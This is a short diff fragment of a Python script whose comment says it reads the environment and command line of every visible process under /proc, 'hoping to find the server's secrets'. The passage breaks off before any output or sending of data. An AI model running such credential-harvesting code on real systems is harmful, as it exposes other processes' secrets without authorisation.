@@ -1,5 +1,6 @@
 # Read the environment of every process visible, hoping to find the server's secrets.
 import os
+
 found = []
 for pid in ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
     for name in ("environ", "cmdline"):
